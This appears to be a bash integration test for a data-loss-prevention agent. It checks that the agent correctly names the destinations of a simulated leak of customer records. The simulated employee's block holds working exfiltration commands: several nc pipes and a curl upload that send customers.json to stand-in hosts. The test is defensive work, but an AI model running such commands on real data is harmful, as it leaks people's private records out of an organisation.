#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# Names. Customer rows go to addresses that nobody asked for by name on the connection itself, but for
# one: what they are called is known from the DNS answers that this machine got, and from /etc/hosts.
# shellcheck source=tests/support/fixture.sh
. "$(dirname "$0")/../support/fixture.sh"
set_the_stage

for n in 61 62 63 64; do
	ip -n weir-meet.test address add "10.77.0.$n/24" dev eth0
done
crm_serves crm.test
cloud_serves meet.test
store_serves meet.test 4444
serve meet.test 53 dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts \
	--user=root --pid-file="$work/named.pid" --host-record=files.example,10.77.0.61 \
	--cname=www.files.example,files.example --host-record=upload.example,10.77.0.63 \
	--host-record=stream.example,10.77.0.64
# Her desk asks a stub on loopback, as those of systemd-resolved do.
serve employee 53 dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts \
	--user=root --pid-file="$work/stub.pid" --listen-address=127.0.0.53 --bind-interfaces \
	--server=10.77.0.50 --cache-size=0
echo "nameserver 127.0.0.53" >/etc/netns/weir-employee/resolv.conf

# The agent hears the network that it is in: here it is at her desk.
echo "10.77.0.62 ledger.example" >"$work/hosts"
cat >"$work/weir-at-her-desk" <<END
#!/bin/sh
exec nsenter --net=/run/netns/weir-employee unshare --mount sh -c \
	'mount --bind "\$0" /etc/hosts && exec "\$@"' "$work/hosts" "$root/$weir" "\$@"
END
chmod 0755 "$work/weir-at-her-desk"
everywhere=$weir
weir=$work/weir-at-her-desk
weir_watches
weir=$everywhere

alice_does <<'END'
for number in 1 2 3 4 5 6 7 8 9 10; do
	curl -sS "https://crm.test/policy/P20207000$number" >>customers.json
done
nc -N www.files.example 4444 <customers.json
nc -N 10.77.0.62 4444 <customers.json
curl -sSk -F file=@customers.json https://upload.example/upload
dig +tcp +short stream.example @10.77.0.50 >address.txt
nc -N 10.77.0.64 4444 <customers.json
END
soon "four findings" incidents_say "len(d) == 4"
sink_is() { # ADDRESS HOST SOURCE
	incidents_say "[(s['host'], s['host_source']) for i in d for s in i['sinks'] if s['address'] == '$1'] == [('$2', '$3')]"
}
soon "an address is called what was asked for, not what that is an alias of" \
	sink_is 10.77.0.61 www.files.example dns_answer
soon "what no answer has named is called as /etc/hosts says" \
	sink_is 10.77.0.62 ledger.example hosts_file
soon "an upload that said its name before it read the rows has that" \
	sink_is 10.77.0.63 upload.example tls_server_name
soon "an answer over TCP is heard, too" sink_is 10.77.0.64 stream.example dns_answer
soon "the paragraph says who named it" \
	incidents_say "any('www.files.example (10.77.0.61, named by a DNS answer; not named by the policy)' in i['explanation'] for i in d)"
then_every_stage_accounts_for_all_it_took
status_tells_of_answers() { # written every 3 s
	every_stage_accounts && json_says "$work/status.json" \
		"next(s['out'] for s in d['agent']['stages'] if s['name'] == 'dns answers') >= 4"
}
then_it "the status tells of answers" eventually 10 status_tells_of_answers
